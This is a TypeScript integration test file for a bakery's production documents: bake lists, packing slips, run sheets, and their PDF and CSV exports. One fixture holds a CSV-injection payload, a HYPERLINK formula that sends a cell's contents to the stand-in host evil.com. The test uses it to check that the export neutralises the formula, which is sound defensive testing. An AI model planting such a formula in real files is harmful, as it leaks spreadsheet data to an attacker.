import { execFileSync } from 'node:child_process';
import { DateTime } from 'luxon';
import { DELIVERY_TIME_SLOTS, type DeliveryTimeSlot } from '@bakery/contracts';
import { ApiClient, createProduct, ORDER_BY_2PM_THE_DAY_BEFORE, signedInAdmin, signedInCustomer, TestStack } from '@bakery/testing';
import { StandingOrderMaterializer } from '../src/standing-orders/standing-order-materializer';

/**
 * The production documents through the gateway, with the stack's controllable clock: a Wednesday
 * with 30 orders (10 customers, three slots) and 10 standing orders (one skipping the date, one
 * with the date's own quantities). The expected figures are worked out here from the orders as
 * placed, independently of the service's rules. The bakery is in London; dates are December 2026.
 */
const ZONE = 'Europe/London';
const london = (local: string) => DateTime.fromISO(local, { zone: ZONE }).toJSDate();
const DATE = '2026-12-02'; // a Wednesday: orders close Tuesday 14:00
const CUTOFF = london('2026-12-01T14:00');
const [EARLY, MID] = DELIVERY_TIME_SLOTS;

type Line = { productId: string; quantity: number };
interface Customer {
  id: string;
  client: ApiClient;
  name: string;
  address: string;
  phone: string;
  dropPosition: number | null;
}
interface PlacedOrder {
  id: string;
  customer: Customer;
  slot: DeliveryTimeSlot | null;
  instructions: string | null;
  lines: Line[];
  cancelled: boolean;
}

/** Units per `${productId}/${customerId}` (the model the expectations are worked out from). */
type Units = Map<string, number>;

/** Minimal RFC 4180 reading (quotes, doubled quotes, CRLF), for reading the CSV files back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n') {
      row.push(cell.replace(/\r$/, ''));
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** A customer's instructions a spreadsheet would run as a formula (CSV injection), over two lines. */
const FORMULA_INSTRUCTIONS = '=HYPERLINK("https://evil.test/?"&A1,"Back door 12")\nRing twice';

const pdfText = (pdf: Buffer) => execFileSync('pdftotext', ['-layout', '-', '-'], { input: pdf }).toString();
const pdfInfo = (pdf: Buffer) => execFileSync('pdfinfo', ['-'], { input: pdf }).toString();

describe('production documents', () => {
  let stack: TestStack;
  let admin: ApiClient;
  let stranger: ApiClient;
  const products: Record<'baguette' | 'sourdough' | 'croissant' | 'bagel', { id: string; name: string; category: string; batchSize: number | null }> = {} as never;
  const customers: Customer[] = [];
  const orders: PlacedOrder[] = [];
  /** the standing orders' Wednesday units, by customer */
  const standing: { id: string; customer: Customer; slot: DeliveryTimeSlot | null; lines: Line[] }[] = [];

  /** Downloads a file with the admin's session: status, headers and the bytes. */
  async function download(path: string, client = admin) {
    const res = await fetch(`${stack.url}${path}`, { headers: client.cookie ? { cookie: client.cookie } : {} });
    return { status: res.status, type: res.headers.get('content-type'), disposition: res.headers.get('content-disposition'), body: Buffer.from(await res.arrayBuffer()) };
  }

  const key = (productId: string, customerId: string) => `${productId}/${customerId}`;
  function add(units: Units, customerId: string, lines: Line[]) {
    for (const l of lines) units.set(key(l.productId, customerId), (units.get(key(l.productId, customerId)) ?? 0) + l.quantity);
  }
  const placedUnits = (): Units => {
    const units: Units = new Map();
    for (const o of orders) if (!o.cancelled) add(units, o.customer.id, o.lines);
    return units;
  };
  const projectedUnits = (): Units => {
    const units: Units = new Map();
    for (const s of standing) add(units, s.customer.id, s.lines);
    return units;
  };

  /** The bake list's products as they must be, from the model. */
  function expectedProducts(placed: Units, projected: Units) {
    const rows = Object.values(products).map((p) => {
      const customersOf = new Set<string>();
      let quantity = 0;
      let projectedQuantity = 0;
      for (const [k, q] of placed) {
        if (!k.startsWith(`${p.id}/`) || q <= 0) continue;
        quantity += q;
        customersOf.add(k.split('/')[1]);
      }
      for (const [k, q] of projected) {
        if (!k.startsWith(`${p.id}/`) || q <= 0) continue;
        projectedQuantity += q;
        customersOf.add(k.split('/')[1]);
      }
      const total = quantity + projectedQuantity;
      const batches = p.batchSize ? { batchSize: p.batchSize, count: Math.ceil(total / p.batchSize), spare: Math.ceil(total / p.batchSize) * p.batchSize - total } : null;
      return { productId: p.id, name: p.name, category: p.category, quantity, projectedQuantity, customers: customersOf.size, batches };
    });
    // bagels, breads (Baguette, Sourdough), pastries
    const order = [products.bagel, products.baguette, products.sourdough, products.croissant].map((p) => p.id);
    return rows.filter((r) => r.quantity + r.projectedQuantity > 0).sort((a, b) => order.indexOf(a.productId) - order.indexOf(b.productId));
  }

  /** Slips in drop order: slot (none last), drop position (none last), business name. */
  function expectedSlipOrder(list: { slot: DeliveryTimeSlot | null; customer: Customer; id: string }[]) {
    const rank = (slot: DeliveryTimeSlot | null) => (slot === null ? 99 : DELIVERY_TIME_SLOTS.indexOf(slot));
    return [...list].sort(
      (a, b) =>
        rank(a.slot) - rank(b.slot) ||
        (a.customer.dropPosition ?? 1e9) - (b.customer.dropPosition ?? 1e9) ||
        a.customer.name.localeCompare(b.customer.name) ||
        (a.customer.id < b.customer.id ? -1 : a.customer.id > b.customer.id ? 1 : 0) ||
        (a.id < b.id ? -1 : 1),
    );
  }

  beforeAll(async () => {
    stack = await TestStack.start({ env: { BAKERY_TIMEZONE: ZONE, STANDING_ORDER_INTERVAL_SECONDS: '3600' } });
    admin = await signedInAdmin(stack.url);
    stranger = await signedInCustomer(stack.url, { businessName: 'Nosy Neighbour' });
    expect((await admin.put('/api/admin/delivery-schedule', ORDER_BY_2PM_THE_DAY_BEFORE)).status).toBe(200);
    expect((await admin.put('/api/admin/bakery-details', { name: 'Crumb & Co Bakery', address: '1 Mill Lane', taxId: 'GB123', paymentInstructions: '' })).status).toBe(200);
    stack.setClock(london('2026-11-30T08:00')); // Monday morning

    const made = await Promise.all([
      createProduct(admin, { name: 'Baguette', price: '2.25', stock: 100_000, category: 'breads', batchSize: 48 }),
      createProduct(admin, { name: 'Sourdough', price: '6.50', stock: 100_000, category: 'breads' }),
      createProduct(admin, { name: 'Croissant', price: '1.80', stock: 100_000, category: 'pastries', batchSize: 24 }),
      createProduct(admin, { name: 'Plain Bagel', price: '1.20', stock: 100_000, category: 'bagels' }),
    ]);
    const [baguette, sourdough, croissant, bagel] = made as unknown as { id: string; name: string; category: string; batchSize: number | null }[];
    Object.assign(products, { baguette, sourdough, croissant, bagel });

    // ten customers with orders, five more with standing orders only; drop positions for some
    const names = ['Alder Cafe', 'Birch Bistro', 'Cedar Deli', 'Dogwood Diner', 'Elm Eatery', 'Fir Foods', 'Ginkgo Grill', 'Hazel Hotel', 'Ivy Inn', 'Juniper Juice', 'Kale Kitchen', 'Larch Lounge', 'Maple Market', 'Nutmeg Nook', 'Oak Oven'];
    const drops = [3, null, 1, 2, null, 5, 4, null, 6, 7, 8, null, 9, 10, 11];
    for (const [i, name] of names.entries()) {
      const client = await signedInCustomer(stack.url, { businessName: name });
      const id = (await client.get('/api/auth/user')).body.id as string;
      const edited = await admin.patch(`/api/customers/${id}`, { address: `${i + 1} ${name} Road, London`, phone: `020 7946 ${String(1000 + i)}`, dropPosition: drops[i] });
      expect(edited.status).toBe(200);
      expect(edited.body.dropPosition).toBe(drops[i]);
      customers.push({ id, client, name, address: `${i + 1} ${name} Road, London`, phone: `020 7946 ${String(1000 + i)}`, dropPosition: drops[i] });
    }

    // 30 orders: customer k % 10; the first 12 early, the next 12 mid-morning, the last 6 without a slot
    for (let k = 0; k < 30; k++) {
      const customer = customers[k % 10];
      const lines: Line[] = [{ productId: baguette.id, quantity: 5 + k }];
      if (k % 4 !== 0) lines.push({ productId: croissant.id, quantity: k % 4 });
      if (k % 5 === 0) lines.push({ productId: bagel.id, quantity: 2 });
      if (k % 2 === 0) lines.push({ productId: sourdough.id, quantity: 1 + (k % 3) });
      for (const line of lines) expect((await customer.client.post('/api/cart', line)).status).toBe(201);
      const slot = k < 12 ? EARLY : k < 24 ? MID : null;
      const instructions = k === 12 ? FORMULA_INSTRUCTIONS : k % 6 === 0 ? `Back door ${k}` : null;
      const placed = await customer.client.post('/api/orders', { deliveryDate: DATE, ...(slot ? { deliveryTimeSlot: slot } : {}), ...(instructions ? { specialInstructions: instructions } : {}) });
      expect(placed.status).toBe(201);
      orders.push({ id: placed.body.id, customer, slot, instructions, lines, cancelled: false });
    }
    // an order for another date is on no document of this one
    expect((await customers[0].client.post('/api/cart', { productId: baguette.id, quantity: 99 })).status).toBe(201);
    expect((await customers[0].client.post('/api/orders', { deliveryDate: '2026-12-03' })).status).toBe(201);

    // 10 standing orders: customers 5–9 and the five without orders; Wednesdays 10 + i baguettes, sourdough on even i.
    // Made on Saturday, before Monday's cut-off (Sunday 2 PM): one made later would not deliver that Monday
    stack.setClock(london('2026-11-28T08:00'));
    for (let i = 0; i < 10; i++) {
      const customer = customers[i < 5 ? 5 + i : 10 + (i - 5)];
      const wednesday = (q: number) => [q, q, q, q, q, q, 0].map((v, d) => (d === 2 ? q : v === 0 ? 0 : 1));
      const lines = [{ productId: baguette.id, quantities: wednesday(10 + i) }];
      if (i % 2 === 0) lines.push({ productId: sourdough.id, quantities: wednesday(3) });
      const slot = i % 3 === 0 ? EARLY : i % 3 === 1 ? MID : null;
      const created = await admin.post('/api/standing-orders', {
        name: `Weekly ${i}`,
        customerId: customer.id,
        startDate: '2026-11-30',
        everyWeeks: 1,
        ...(slot ? { deliveryTimeSlot: slot } : {}),
        lines,
      });
      expect(created.status).toBe(201);
      let wednesdayLines: Line[] = lines.map((l) => ({ productId: l.productId, quantity: l.quantities[2] }));
      if (i === 0) {
        // skips this Wednesday
        expect((await admin.put(`/api/standing-orders/${created.body.id}/deliveries/${DATE}`, { skip: true })).status).toBe(200);
        wednesdayLines = [];
      } else if (i === 1) {
        // this Wednesday only: 40 baguettes and 2 croissants
        wednesdayLines = [{ productId: baguette.id, quantity: 40 }, { productId: croissant.id, quantity: 2 }];
        expect((await admin.put(`/api/standing-orders/${created.body.id}/deliveries/${DATE}`, { lines: wednesdayLines })).status).toBe(200);
      }
      if (wednesdayLines.length > 0) standing.push({ id: created.body.id, customer, slot, lines: wednesdayLines });
    }
    stack.setClock(london('2026-11-30T08:00'));
  }, 180_000);
  afterAll(() => stack?.close());

  const materializers = () => stack.instancesOf('ordering').map((i) => i.app.get(StandingOrderMaterializer));

  it('gives the day’s exact bake list before the cut-off: placed and projected units, customers, batches', async () => {
    const res = await admin.get(`/api/admin/production/bake-list?date=${DATE}`);
    expect(res.status).toBe(200);
    expect(res.body).toEqual({
      date: DATE,
      cutoffAt: CUTOFF.toISOString(),
      locked: false,
      printedAt: null,
      products: expectedProducts(placedUnits(), projectedUnits()),
      changes: [],
      changesTotal: 0,
    });
    // a sanity check of the model itself: 30 orders of 5 … 34 baguettes, 9 standing orders
    const baguette = res.body.products.find((p: { productId: string }) => p.productId === products.baguette.id);
    expect(baguette.quantity).toBe((5 + 34) * 15);
    expect(baguette.projectedQuantity).toBe(40 + 12 + 13 + 14 + 15 + 16 + 17 + 18 + 19);
    expect(baguette.customers).toBe(10 + 5);
    expect(baguette.batches).toEqual({ batchSize: 48, count: Math.ceil(749 / 48), spare: Math.ceil(749 / 48) * 48 - 749 });
  });

  it('drills down from a product to its customers and quantities', async () => {
    const res = await admin.get(`/api/admin/production/bake-list/customers?date=${DATE}&productId=${products.croissant.id}`);
    expect(res.status).toBe(200);
    const expected = [
      ...orders
        .filter((o) => o.lines.some((l) => l.productId === products.croissant.id))
        .map((o) => ({ customerId: o.customer.id, businessName: o.customer.name, quantity: o.lines.find((l) => l.productId === products.croissant.id)!.quantity, projected: false, orderId: o.id })),
      { customerId: standing[0].customer.id, businessName: standing[0].customer.name, quantity: 2, projected: true, orderId: null },
    ];
    expect([...res.body].sort((a, b) => `${a.businessName}${a.orderId}`.localeCompare(`${b.businessName}${b.orderId}`))).toEqual(
      expected.sort((a, b) => `${a.businessName}${a.orderId}`.localeCompare(`${b.businessName}${b.orderId}`)),
    );
    expect(res.body.map((c: { businessName: string }) => c.businessName)).toEqual([...expected.map((c) => c.businessName)].sort((a, b) => a.localeCompare(b)));
    expect(res.headers.get('x-total-count')).toBe(String(expected.length));
  });

  it('shows the week ahead, products by dates', async () => {
    const res = await admin.get('/api/admin/production/week?from=2026-11-30&days=7');
    expect(res.status).toBe(200);
    expect(res.body.dates).toEqual(['2026-11-30', '2026-12-01', '2026-12-02', '2026-12-03', '2026-12-04', '2026-12-05', '2026-12-06']);
    const wednesday = new Map(expectedProducts(placedUnits(), projectedUnits()).map((p) => [p.productId, p.quantity + p.projectedQuantity]));
    const row = (id: string) => res.body.products.find((p: { productId: string }) => p.productId === id).quantities;
    // Monday–Saturday the standing orders' weekday unit (1 baguette each, 1 sourdough on even ones: 10 and 5), Thursday's order of 99, Sunday none
    expect(row(products.baguette.id)).toEqual([10, 10, wednesday.get(products.baguette.id), 10 + 99, 10, 10, 0]);
    expect(row(products.sourdough.id)).toEqual([5, 5, wednesday.get(products.sourdough.id), 5, 5, 5, 0]);
    expect(row(products.croissant.id)).toEqual([0, 0, wednesday.get(products.croissant.id), 0, 0, 0, 0]);
    expect((await admin.get('/api/admin/production/week?from=2026-11-30&days=15')).status).toBe(400);
  });

  it('gives a packing slip per order in drop order, without prices, and the run sheet’s stops', async () => {
    const res = await admin.get(`/api/admin/production/packing-slips?date=${DATE}`);
    expect(res.status).toBe(200);
    const live = orders.filter((o) => !o.cancelled);
    expect(res.body.date).toBe(DATE);
    expect(res.body.slips.map((s: { orderId: string }) => s.orderId)).toEqual(expectedSlipOrder(live).map((o) => o.id));
    const first = live[0];
    const slip = res.body.slips.find((s: { orderId: string }) => s.orderId === first.id);
    slip.items.sort((a: { name: string }, b: { name: string }) => a.name.localeCompare(b.name));
    expect(slip).toEqual({
      orderId: first.id,
      orderNumber: first.id.slice(-8).toUpperCase(),
      customerId: first.customer.id,
      businessName: 'Alder Cafe',
      address: '1 Alder Cafe Road, London',
      phone: '020 7946 1000',
      deliveryTimeSlot: EARLY,
      specialInstructions: 'Back door 0',
      dropPosition: 3,
      items: [
        { productId: products.baguette.id, name: 'Baguette', quantity: 5 },
        { productId: products.bagel.id, name: 'Plain Bagel', quantity: 2 },
        { productId: products.sourdough.id, name: 'Sourdough', quantity: 1 },
      ],
    });
    expect(JSON.stringify(res.body)).not.toMatch(/price|total|subtotal/i);

    const sheet = await admin.get(`/api/admin/production/run-sheet?date=${DATE}`);
    expect(sheet.status).toBe(200);
    // one stop per customer per slot, in drop order
    const expected = [EARLY, MID, null].map((slot) => {
      const inSlot = expectedSlipOrder(live.filter((o) => o.slot === slot));
      const stops: { position: number; customerId: string; businessName: string; address: string; phone: string; instructions: string | null; items: number; orderIds: string[] }[] = [];
      for (const o of inSlot) {
        let stop = stops.find((s) => s.customerId === o.customer.id);
        if (!stop) {
          stop = { position: stops.length + 1, customerId: o.customer.id, businessName: o.customer.name, address: o.customer.address, phone: o.customer.phone, instructions: null, items: 0, orderIds: [] };
          stops.push(stop);
        }
        stop.items += o.lines.reduce((n, l) => n + l.quantity, 0);
        stop.orderIds.push(o.id);
        if (o.instructions) stop.instructions = stop.instructions ? `${stop.instructions}; ${o.instructions}` : o.instructions;
      }
      return { slot, stops };
    });
    expect(sheet.body).toEqual({ date: DATE, slots: expected });
    expect(expected.map((s) => s.stops.length)).toEqual([10, 10, 6]);
  });

  it('shows an amendment and a cancellation after a print as changes', async () => {
    const printed = await admin.post('/api/admin/production/prints', { date: DATE });
    expect(printed.status).toBe(201);
    expect(printed.body).toEqual({ date: DATE, printedAt: london('2026-11-30T08:00').toISOString() });
    const before = new Map([...placedUnits()].map(([k, q]) => [k, q + (projectedUnits().get(k) ?? 0)]));
    for (const [k, q] of projectedUnits()) if (!before.has(k)) before.set(k, q);
    expect((await admin.get(`/api/admin/production/bake-list?date=${DATE}`)).body).toMatchObject({ printedAt: printed.body.printedAt, changes: [], changesTotal: 0 });

    // Dogwood Diner changes order 3 to 50 baguettes only; Elm Eatery cancels order 4
    const amended = orders[3];
    const res = await amended.customer.client.patch(`/api/orders/${amended.id}`, { lines: [{ productId: products.baguette.id, quantity: 50 }] });
    expect(res.status).toBe(200);
    amended.lines = [{ productId: products.baguette.id, quantity: 50 }];
    expect((await orders[4].customer.client.post(`/api/orders/${orders[4].id}/cancel`)).status).toBe(201);
    orders[4].cancelled = true;

    const after = placedUnits();
    for (const [k, q] of projectedUnits()) after.set(k, (after.get(k) ?? 0) + q);
    const nameOf = (productId: string) => Object.values(products).find((p) => p.id === productId)!.name;
    const changes = [...new Set([...before.keys(), ...after.keys()])]
      .filter((k) => (before.get(k) ?? 0) !== (after.get(k) ?? 0))
      .map((k) => {
        const [productId, customerId] = k.split('/');
        return { productId, name: nameOf(productId), customerId, businessName: customers.find((c) => c.id === customerId)!.name, before: before.get(k) ?? 0, after: after.get(k) ?? 0 };
      })
      .sort((a, b) => a.name.localeCompare(b.name) || a.businessName.localeCompare(b.businessName));
    // Dogwood: baguettes 8 → 50 in order 3, croissants 3 fewer; Elm: its order 4 gone (9 baguettes, 2 sourdough)
    expect(changes).toEqual([
      expect.objectContaining({ name: 'Baguette', businessName: 'Dogwood Diner', after: (before.get(key(products.baguette.id, customers[3].id)) ?? 0) - 8 + 50 }),
      expect.objectContaining({ name: 'Baguette', businessName: 'Elm Eatery', after: (before.get(key(products.baguette.id, customers[4].id)) ?? 0) - 9 }),
      expect.objectContaining({ name: 'Croissant', businessName: 'Dogwood Diner', after: (before.get(key(products.croissant.id, customers[3].id)) ?? 0) - 3 }),
      expect.objectContaining({ name: 'Sourdough', businessName: 'Elm Eatery', after: (before.get(key(products.sourdough.id, customers[4].id)) ?? 0) - 2 }),
    ]);
    const list = await admin.get(`/api/admin/production/bake-list?date=${DATE}`);
    expect(list.body.changes).toEqual(changes);
    expect(list.body.changesTotal).toBe(4);
    expect(list.body.products).toEqual(expectedProducts(placedUnits(), projectedUnits()));
  });

  it('locks at the cut-off; the standing orders then count as placed, and nothing new shows as changed', async () => {
    stack.setClock(new Date(CUTOFF.getTime() - 1000));
    expect((await admin.get(`/api/admin/production/bake-list?date=${DATE}`)).body.locked).toBe(false);
    stack.setClock(CUTOFF);
    const locked = await admin.get(`/api/admin/production/bake-list?date=${DATE}`);
    expect(locked.body).toMatchObject({ cutoffAt: CUTOFF.toISOString(), locked: true });
    // until the sweep places them, the standing orders stay projected
    expect(locked.body.products).toEqual(expectedProducts(placedUnits(), projectedUnits()));

    // Wednesday's 9 deliveries, and Tuesday's 10 (its cut-off passed on Monday)
    expect(await materializers()[0].run()).toBe(10 + standing.length);
    const after = await admin.get(`/api/admin/production/bake-list?date=${DATE}`);
    const all = placedUnits();
    for (const [k, q] of projectedUnits()) all.set(k, (all.get(k) ?? 0) + q);
    expect(after.body.products).toEqual(expectedProducts(all, new Map()));
    expect(after.body.products.every((p: { projectedQuantity: number }) => p.projectedQuantity === 0)).toBe(true);
    expect(after.body.changesTotal).toBe(4);

    // the deliveries are orders now: a slip each, in drop order
    const slips = (await admin.get(`/api/admin/production/packing-slips?date=${DATE}`)).body.slips as { orderId: string; customerId: string; deliveryTimeSlot: string | null }[];
    expect(slips).toHaveLength(29 + 9);
    const fromStanding = slips.filter((s) => !orders.some((o) => o.id === s.orderId));
    expect(fromStanding.map((s) => s.customerId).sort()).toEqual(standing.map((s) => s.customer.id).sort());
    const rank = (slot: string | null) => (slot === null ? 99 : DELIVERY_TIME_SLOTS.indexOf(slot as DeliveryTimeSlot));
    expect(slips.map((s) => rank(s.deliveryTimeSlot))).toEqual([...slips.map((s) => rank(s.deliveryTimeSlot))].sort((a, b) => a - b));
  });

  it('renders the bake list, packing slips and run sheet as PDFs with real text, page numbers and the bakery’s name', async () => {
    const list = (await admin.get(`/api/admin/production/bake-list?date=${DATE}`)).body;
    const pdf = await download(`/api/admin/production/bake-list?date=${DATE}&format=pdf`);
    expect(pdf.status).toBe(200);
    expect(pdf.type).toBe('application/pdf');
    expect(pdf.disposition).toBe(`attachment; filename="bake-list-${DATE}.pdf"`);
    const text = pdfText(pdf.body);
    expect(text).toContain('Crumb & Co Bakery');
    expect(text).toContain('Page 1 of 1');
    expect(text).toContain('Bake list 2026-12-02');
    for (const p of list.products) {
      const batches = p.batches ? `\\s+${p.batches.count} x ${p.batches.batchSize} \\(${p.batches.spare} spare\\)` : '';
      expect(text).toMatch(new RegExp(`${p.name}\\s+${p.quantity}\\s+${p.projectedQuantity}\\s+${p.quantity + p.projectedQuantity}\\s+${p.customers}${batches}`));
    }
    expect(text).toMatch(/Changes since the last print \(4\)/);
    expect(text).toMatch(/Baguette\s+Dogwood Diner\s+\d+\s+\d+/);
    expect(pdfInfo(pdf.body)).toMatch(/Page size:\s+595\.\d* x 841\.\d* pts \(A4\)/);
    const letter = await download(`/api/admin/production/bake-list?date=${DATE}&format=pdf&paper=Letter`);
    expect(pdfInfo(letter.body)).toMatch(/Page size:\s+612 x 792 pts \(letter\)/);

    const slipsJson = (await admin.get(`/api/admin/production/packing-slips?date=${DATE}`)).body.slips as { orderNumber: string; businessName: string; items: { name: string; quantity: number }[] }[];
    const slips = await download(`/api/admin/production/packing-slips?date=${DATE}&format=pdf`);
    expect(slips.type).toBe('application/pdf');
    expect(slips.disposition).toBe(`attachment; filename="packing-slips-${DATE}.pdf"`);
    const pages = pdfText(slips.body).split('\f').filter((p) => p.trim() !== '');
    expect(pages).toHaveLength(slipsJson.length);
    slipsJson.forEach((slip, i) => {
      expect(pages[i]).toContain(`Page ${i + 1} of ${slipsJson.length}`);
      expect(pages[i]).toContain('Crumb & Co Bakery');
      expect(pages[i]).toMatch(new RegExp(`${slip.businessName}\\s+-\\s+order ${slip.orderNumber}`));
      for (const item of slip.items) expect(pages[i]).toMatch(new RegExp(`${item.name}\\s+${item.quantity}\\s`));
      expect(pages[i]).not.toMatch(/\$|£|price/i);
    });

    const sheet = (await admin.get(`/api/admin/production/run-sheet?date=${DATE}`)).body as { slots: { slot: string | null; stops: { position: number; businessName: string; items: number; phone: string }[] }[] };
    const run = await download(`/api/admin/production/run-sheet?date=${DATE}&format=pdf`);
    expect(run.disposition).toBe(`attachment; filename="run-sheet-${DATE}.pdf"`);
    const runText = pdfText(run.body);
    expect(runText).toContain('Page 1 of');
    expect(runText).toContain('Crumb & Co Bakery');
    for (const { slot, stops } of sheet.slots) {
      expect(runText).toContain(`${slot ?? 'No time slot'} (${stops.length} stops)`);
      for (const s of stops) expect(runText).toMatch(new RegExp(`${s.position}\\s+${s.businessName}\\s+.*${s.phone}\\s+${s.items}`));
    }
  });

  it('exports the bake list and run sheet as CSV that reads back to the same figures', async () => {
    const list = (await admin.get(`/api/admin/production/bake-list?date=${DATE}`)).body;
    const csv = await download(`/api/admin/production/bake-list?date=${DATE}&format=csv`);
    expect(csv.status).toBe(200);
    expect(csv.type).toBe('text/csv; charset=utf-8');
    expect(csv.disposition).toBe(`attachment; filename="bake-list-${DATE}.csv"`);
    const rows = parseCsv(csv.body.toString('utf8').replace(/^\ufeff/, ''));
    expect(rows[0]).toEqual(['Category', 'Product', 'Placed', 'Projected', 'Total', 'Customers', 'Batch size', 'Batches', 'Spare']);
    expect(rows.slice(1)).toEqual(
      list.products.map((p: { category: string; name: string; quantity: number; projectedQuantity: number; customers: number; batches: { batchSize: number; count: number; spare: number } | null }) => [
        p.category,
        p.name,
        String(p.quantity),
        String(p.projectedQuantity),
        String(p.quantity + p.projectedQuantity),
        String(p.customers),
        p.batches ? String(p.batches.batchSize) : '',
        p.batches ? String(p.batches.count) : '',
        p.batches ? String(p.batches.spare) : '',
      ]),
    );

    const sheet = (await admin.get(`/api/admin/production/run-sheet?date=${DATE}`)).body as { slots: { slot: string | null; stops: { position: number; businessName: string; address: string; phone: string; items: number; instructions: string | null; orderIds: string[] }[] }[] };
    const runCsv = await download(`/api/admin/production/run-sheet?date=${DATE}&format=csv`);
    expect(runCsv.disposition).toBe(`attachment; filename="run-sheet-${DATE}.csv"`);
    const runRows = parseCsv(runCsv.body.toString('utf8').replace(/^\ufeff/, ''));
    expect(runRows[0]).toEqual(['Slot', 'Stop', 'Customer', 'Address', 'Phone', 'Items', 'Instructions', 'Orders']);
    expect(runRows.slice(1)).toEqual(
      sheet.slots.flatMap(({ slot, stops }) =>
        stops.map((s) => [slot ?? '', String(s.position), s.businessName, s.address, s.phone, String(s.items), s.instructions === FORMULA_INSTRUCTIONS ? `'${FORMULA_INSTRUCTIONS}` : (s.instructions ?? ''), s.orderIds.join(' ')]),
      ),
    );
    // the formula arrives as text, its two lines in one cell
    expect(runRows.find((r) => r[0] === MID && r[2] === 'Cedar Deli')?.[6]).toBe(`'=HYPERLINK("https://evil.test/?"&A1,"Back door 12")\nRing twice`);
    // an address with a comma survives the round trip
    expect(runRows.slice(1).map((r) => r[3])).toContain('1 Alder Cafe Road, London');
  });

  it('compares with the newest print: a new print of the date clears the changes the last one showed', async () => {
    const before = (await admin.get(`/api/admin/production/bake-list?date=${DATE}`)).body;
    expect(before.changesTotal).toBe(4);
    stack.setClock(new Date(CUTOFF.getTime() + 60_000));
    const printed = await admin.post('/api/admin/production/prints', { date: DATE });
    expect(printed.body.printedAt).toBe(new Date(CUTOFF.getTime() + 60_000).toISOString());
    const after = (await admin.get(`/api/admin/production/bake-list?date=${DATE}`)).body;
    expect(after).toMatchObject({ printedAt: printed.body.printedAt, changes: [], changesTotal: 0, products: before.products });

    // a print another instance of ordering wrote (here: an empty one, straight into the table) is read, not the one kept
    const elsewhere = new Date(CUTOFF.getTime() + 120_000).toISOString();
    await stack.query('ordering', `UPDATE production_prints SET printed_at = $2, lines = '[]'::jsonb WHERE delivery_date = $1::date`, [DATE, elsewhere]);
    const lines = after.products.reduce((n: number, p: { customers: number }) => n + p.customers, 0);
    expect((await admin.get(`/api/admin/production/bake-list?date=${DATE}`)).body).toMatchObject({ printedAt: elsewhere, changesTotal: lines });
  });

  it('keeps the documents to admins and refuses bad dates, formats and paper with field messages', async () => {
    for (const path of [
      `/api/admin/production/bake-list?date=${DATE}`,
      `/api/admin/production/bake-list?date=${DATE}&format=pdf`,
      `/api/admin/production/bake-list/customers?date=${DATE}&productId=${products.baguette.id}`,
      '/api/admin/production/week?from=2026-11-30',
      `/api/admin/production/packing-slips?date=${DATE}`,
      `/api/admin/production/run-sheet?date=${DATE}&format=csv`,
    ]) {
      expect((await stranger.get(path)).status).toBe(403);
    }
    expect((await stranger.post('/api/admin/production/prints', { date: DATE })).status).toBe(403);

    const bad = async (path: string) => {
      const res = await admin.get(path);
      expect(res.status).toBe(400);
      return res.body.errors;
    };
    expect(await bad('/api/admin/production/bake-list?date=2026-02-30')).toEqual({ date: ['date must be a date (YYYY-MM-DD)'] });
    expect(await bad('/api/admin/production/bake-list')).toEqual({ date: ['date must be a date (YYYY-MM-DD)'] });
    expect(await bad(`/api/admin/production/run-sheet?date=02/12/2026`)).toEqual({ date: ['date must be a date (YYYY-MM-DD)'] });
    expect(await bad(`/api/admin/production/bake-list?date=${DATE}&format=xlsx`)).toEqual({ format: ['format must be one of json, pdf, csv'] });
    expect(await bad(`/api/admin/production/packing-slips?date=${DATE}&format=csv`)).toEqual({ format: ['format must be one of json, pdf'] });
    expect(await bad(`/api/admin/production/run-sheet?date=${DATE}&format=pdf&paper=legal`)).toEqual({ paper: ['paper must be one of a4, letter'] });
    expect(await bad(`/api/admin/production/bake-list/customers?date=${DATE}&productId=nope`)).toEqual({ productId: ['productId must be a product id'] });
    expect(await bad('/api/admin/production/week?from=2026-11-30&days=0')).toEqual({ days: ['days must be a whole number from 1 to 14'] });
    const print = await admin.post('/api/admin/production/prints', { date: 'tomorrow' });
    expect(print.status).toBe(400);
    expect(print.body.errors).toEqual({ date: ['date must be a date (YYYY-MM-DD)'] });
    // a date with nothing: empty documents, not errors
    expect((await admin.get('/api/admin/production/bake-list?date=2026-12-06')).body).toMatchObject({ products: [], changes: [], printedAt: null });
    expect((await admin.get('/api/admin/production/run-sheet?date=2026-12-06')).body).toEqual({ date: '2026-12-06', slots: [] });
    expect(pdfText((await download('/api/admin/production/packing-slips?date=2026-12-06&format=pdf')).body)).toContain('No orders to pack');
  });

  it('keeps batch sizes and drop positions within their limits', async () => {
    const product = await admin.patch(`/api/products/${products.sourdough.id}`, { batchSize: 0 });
    expect(product.status).toBe(400);
    expect(product.body.errors).toEqual({ batchSize: ['Batch size must be a whole number from 1 to 10000, or null'] });
    expect((await admin.patch(`/api/products/${products.baguette.id}`, { batchSize: 10_001 })).status).toBe(400);
    expect((await admin.patch(`/api/products/${products.baguette.id}`, { batchSize: null })).body.batchSize).toBeNull();
    expect((await admin.get(`/api/products/${products.baguette.id}`)).body.batchSize).toBeNull();
    // the customers' own view of a product does not carry it
    expect((await stranger.get(`/api/products/${products.baguette.id}`)).body).not.toHaveProperty('batchSize');

    const customer = customers[0];
    const refused = await admin.patch(`/api/customers/${customer.id}`, { dropPosition: 10_000 });
    expect(refused.status).toBe(400);
    expect(refused.body.errors).toEqual({ dropPosition: ['Drop position must be a whole number from 1 to 9999, or null'] });
    expect((await admin.patch(`/api/customers/${customer.id}`, { dropPosition: null })).body.dropPosition).toBeNull();
    expect((await admin.get(`/api/customers/${customer.id}`)).body.dropPosition).toBeNull();
    expect((await customer.client.get('/api/auth/user')).body).not.toHaveProperty('dropPosition');
  });
});
